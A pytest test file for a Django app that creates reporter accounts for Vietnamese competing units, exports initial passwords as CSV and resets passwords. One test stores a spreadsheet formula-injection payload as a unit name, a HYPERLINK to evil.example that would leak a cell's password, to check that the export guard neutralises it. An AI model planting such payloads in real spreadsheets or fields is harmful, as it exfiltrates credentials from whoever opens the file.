"""One reporter account per competing unit without one, the initial passwords handed over once."""

from __future__ import annotations

import csv
import io
from io import StringIO

import pytest
from django.contrib.auth import password_validation
from django.core.management import call_command
from django.core.management.base import CommandError

from tests.web.conftest import make_user
from thidua.core.models import AuditEvent
from thidua.units.accounts import (
    accounts_csv,
    initial_password,
    reporter_accounts_create,
    units_fingerprint,
    units_without_reporter,
)
from thidua.units.models import Unit, User


def test_initial_passwords_pass_the_password_rules_and_differ():
    passwords = {initial_password() for _ in range(200)}
    assert len(passwords) == 200
    for password in list(passwords)[:20]:
        password_validation.validate_password(password)
        assert len(password) == 14 and password.count("-") == 2
        assert not set(password) & set("0O1lI")


def test_every_competing_unit_without_an_account_gets_one(registry):
    make_user("alice", User.Role.REPORTER, registry["X-TAN-HOA"])
    make_user("x-thanh-xuan", User.Role.LEADER)  # the user name a unit would take is already used
    retired = registry["P-Y-TE"]
    retired.active = False
    retired.save()
    competing = Unit.objects.filter(active=True).exclude(group="").count()
    accounts = reporter_accounts_create(actor=None)
    assert len(accounts) == competing - 1  # Tân Hòa has alice
    by_unit = {a.unit_code: a for a in accounts}
    assert "X-TAN-HOA" not in by_unit and "P-Y-TE" not in by_unit and "HAU-GIANG" not in by_unit
    assert by_unit["TT-MOT-NGAN"].username == "tt-mot-ngan"
    assert by_unit["X-THANH-XUAN"].username == "x-thanh-xuan-2"
    user = User.objects.get(username="tt-mot-ngan")
    assert user.role == User.Role.REPORTER and user.unit.code == "TT-MOT-NGAN"
    assert user.check_password(by_unit["TT-MOT-NGAN"].password)
    event = AuditEvent.objects.get(action="users.reporters_created")
    assert by_unit["TT-MOT-NGAN"].password not in str(event.after) + event.summary
    assert {"unit": "TT-MOT-NGAN", "username": "tt-mot-ngan"} in event.after["accounts"]
    assert units_without_reporter() == []
    assert reporter_accounts_create(actor=None) == []  # a second run creates nothing
    assert AuditEvent.objects.filter(action="users.reporters_created").count() == 1


def test_the_list_opens_in_excel_with_its_diacritics(registry):
    accounts = reporter_accounts_create(actor=None)
    text = accounts_csv(accounts).decode("utf-8")
    assert text.startswith("\ufeffMã đơn vị,Đơn vị,Tên đăng nhập,Mật khẩu ban đầu")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert len(rows) == len(accounts) + 1
    assert ["X-TAN-HOA", "Xã Tân Hòa", "x-tan-hoa"] == rows[[r[0] for r in rows].index("X-TAN-HOA")][:3]


def test_a_unit_name_a_spreadsheet_would_run_as_a_formula_is_written_inert(registry):
    """The list goes through the exports' formula guard (thidua.documents.xlsx): a unit name typed in
    /quan-tri/ as a formula opens as text, and the passwords are written as they are."""
    unit = registry["TT-MOT-NGAN"]
    unit.name = '=HYPERLINK("http://evil.example/?"&D2,"Bấm vào đây")'
    unit.save()
    accounts = reporter_accounts_create(actor=None)
    rows = list(csv.reader(io.StringIO(accounts_csv(accounts).decode("utf-8").lstrip("\ufeff"))))
    row = rows[[r[0] for r in rows].index("TT-MOT-NGAN")]
    assert row[1] == "'" + unit.name
    by_unit = {a.unit_code: a for a in accounts}
    assert row[2:] == ["tt-mot-ngan", by_unit["TT-MOT-NGAN"].password]


def test_the_command_writes_the_list_once_and_only_for_the_administrator(registry, tmp_path):
    out = tmp_path / "tai-khoan.csv"
    dry = StringIO()
    call_command("create_reporters", "--out", str(out), "--dry-run", stdout=dry)
    assert "22 đơn vị chưa có tài khoản báo cáo." in dry.getvalue() and not out.exists()
    assert User.objects.count() == 0
    stdout = StringIO()
    call_command("create_reporters", "--out", str(out), stdout=stdout)
    assert "Đã tạo 22 tài khoản" in stdout.getvalue()
    assert out.stat().st_mode & 0o777 == 0o600
    assert out.read_text(encoding="utf-8-sig").count("\n") == 23
    with pytest.raises(CommandError) as info:  # never overwrite a list of passwords
        call_command("create_reporters", "--out", str(out), stdout=StringIO())
    assert info.value.returncode == 2 and "đã có" in str(info.value)


def test_the_dry_run_needs_no_file_and_a_real_run_asks_for_one(registry):
    dry = StringIO()
    call_command("create_reporters", "--dry-run", stdout=dry)  # as the README says: --dry-run lists the units
    assert "22 đơn vị chưa có tài khoản báo cáo." in dry.getvalue()
    with pytest.raises(CommandError) as info:
        call_command("create_reporters", stdout=StringIO())
    assert info.value.returncode == 2 and str(info.value).startswith("thiếu tham số bắt buộc: --out TỆP.csv")
    assert User.objects.count() == 0


def test_a_list_that_cannot_be_written_leaves_no_account(registry, tmp_path):
    with pytest.raises(CommandError) as info:
        call_command("create_reporters", "--out", str(tmp_path / "khong-co" / "x.csv"), stdout=StringIO())
    assert "Không có thư mục" in str(info.value)
    assert User.objects.count() == 0


# -- the administrator's page -------------------------------------------------------------------

def _csv_of(html: str) -> list[list[str]]:
    """The rows of the CSV the page offers as a data: address."""
    import base64
    import re

    match = re.search(r'href="data:text/csv;charset=utf-8;base64,([A-Za-z0-9+/=]+)" download="([^"]+)"', html)
    assert match, "the page offers the list as a file"
    assert re.fullmatch(r"tai-khoan-bao-cao-\d{8}-\d{4}\.csv", match.group(2))
    text = base64.b64decode(match.group(1)).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_the_page_lists_the_units_without_an_account_and_the_accounts_in_use(client_for, personas, campaign):
    from django.urls import reverse

    make_user("x-thanh-xuan", User.Role.LEADER)  # the user name Thạnh Xuân would take is in use
    response = client_for(personas["admin"]).get(reverse("units-reporter-accounts"))
    html = response.content.decode()
    assert response.status_code == 200
    assert '<td data-label="Tên đăng nhập sẽ tạo">x-thanh-xuan-2</td>' in html
    assert '<td data-label="Tên đăng nhập sẽ tạo">x-tan-phu-thanh</td>' in html
    # alice, bob and dana report for Tân Hòa, Một Ngàn and Tư pháp; 22 competing units in all
    assert "Đơn vị chưa có tài khoản (19)" in html and "Tài khoản đang dùng (3)" in html
    assert "Xã, thị trấn" in html and "Phòng, ban, ngành huyện" in html  # the campaign's group labels
    assert "Chưa đăng nhập" in html
    listed = units_fingerprint(units_without_reporter())
    assert f'name="listed" value="{listed}"' in html and "Tạo 19 tài khoản" in html
    assert 'href="/don-vi/tai-khoan-bao-cao/"' in html  # in the administrator's menu


def test_creating_shows_each_password_once_uncached_and_as_a_file(client, client_for, personas, campaign):
    from django.urls import reverse

    url = reverse("units-reporter-accounts")
    response = client_for(personas["admin"]).post(url, {"listed": units_fingerprint(units_without_reporter())})
    html = response.content.decode()
    assert response.status_code == 200 and "Đã tạo 19 tài khoản cán bộ báo cáo" in html
    assert "no-store" in response["Cache-Control"]
    rows = _csv_of(html)
    assert rows[0] == ["Mã đơn vị", "Đơn vị", "Tên đăng nhập", "Mật khẩu ban đầu"] and len(rows) == 20
    for code, _name, username, password in rows[1:]:
        assert f"<code>{password}</code>" in html  # the page shows the same passwords as the file
        user = User.objects.get(username=username)
        assert user.unit.code == code and user.check_password(password)
    event = AuditEvent.objects.get(action="users.reporters_created")
    assert event.actor == personas["admin"] and rows[1][3] not in str(event.after)
    # the page again: nothing is missing, and a second press creates nothing
    again = client.get(url).content.decode()
    assert "Đơn vị chưa có tài khoản (0)" in again and "Tài khoản đang dùng (22)" in again
    assert rows[1][3] not in again
    second = client.post(url, {"listed": units_fingerprint([])}, follow=True)
    assert "Mọi đơn vị thi đua đã có tài khoản báo cáo; không tạo thêm." in second.content.decode()
    assert User.objects.filter(role=User.Role.REPORTER, unit__isnull=False).count() == 22


def test_a_page_opened_before_the_list_changed_creates_nothing(client_for, personas, campaign, registry):
    from django.urls import reverse

    seen = units_fingerprint(units_without_reporter())  # the page as the administrator opened it
    make_user("x-thanh-xuan", User.Role.REPORTER, registry["X-THANH-XUAN"])  # one fewer unit to create
    response = client_for(personas["admin"]).post(reverse("units-reporter-accounts"), {"listed": seen},
                                                  follow=True)
    assert "Danh sách đơn vị chưa có tài khoản đã thay đổi" in response.content.decode()
    assert "Đơn vị chưa có tài khoản (18)" in response.content.decode()
    assert User.objects.filter(role=User.Role.REPORTER, unit__isnull=False).count() == 4


@pytest.mark.parametrize("data", [{}, {"listed": ""}, {"listed": "x" * 65}])
def test_a_tampered_form_gets_a_vietnamese_error_and_creates_nothing(client_for, personas, data):
    from django.urls import reverse

    response = client_for(personas["admin"]).post(reverse("units-reporter-accounts"), data)
    assert response.status_code == 400
    assert "hãy tải lại trang" in response.content.decode()
    assert User.objects.filter(role=User.Role.REPORTER, unit__isnull=False).count() == 3


def test_a_made_up_list_creates_nothing(client_for, personas):
    from django.urls import reverse

    response = client_for(personas["admin"]).post(reverse("units-reporter-accounts"), {"listed": "0" * 32},
                                                  follow=True)
    assert "Danh sách đơn vị chưa có tài khoản đã thay đổi" in response.content.decode()
    assert User.objects.filter(role=User.Role.REPORTER, unit__isnull=False).count() == 3


def test_an_administrator_gives_a_reporter_who_lost_the_password_a_new_one(client_for, personas, campaign):
    from axes.models import AccessAttempt
    from django.test import Client
    from django.urls import reverse

    alice = personas["commune_reporter"]
    for _ in range(5):  # alice has locked herself out
        Client().post(reverse("login"), {"username": "alice", "password": "sai-mat-khau"})
    assert AccessAttempt.objects.filter(username="alice").exists()
    admin = client_for(personas["admin"])
    page = admin.get(reverse("units-reporter-accounts")).content.decode()
    url = reverse("units-reporter-password-reset", args=[alice.pk])
    assert f'action="{url}"' in page and "Đặt lại mật khẩu của alice?" in page
    response = admin.post(url)
    html = response.content.decode()
    assert response.status_code == 200 and "Đã đặt lại mật khẩu tài khoản alice" in html
    assert "no-store" in response["Cache-Control"]
    ((code, _name, username, password),) = _csv_of(html)[1:]
    assert (code, username) == ("X-TAN-HOA", "alice") and f"<code>{password}</code>" in html
    alice.refresh_from_db()
    assert alice.check_password(password) and not AccessAttempt.objects.filter(username="alice").exists()
    event = AuditEvent.objects.get(action="users.reporter_password_reset")
    assert event.actor == personas["admin"] and event.unit_code == "X-TAN-HOA" and password not in str(event.after)


@pytest.mark.parametrize("who", ["reviewer", "leader", "admin"])
def test_only_an_active_reporters_password_is_reset_here(client_for, personas, campaign, who):
    from django.urls import reverse

    target = personas[who]  # staff passwords are set in /quan-tri/
    response = client_for(personas["admin"]).post(reverse("units-reporter-password-reset", args=[target.pk]))
    assert response.status_code == 404
    assert not AuditEvent.objects.filter(action="users.reporter_password_reset").exists()
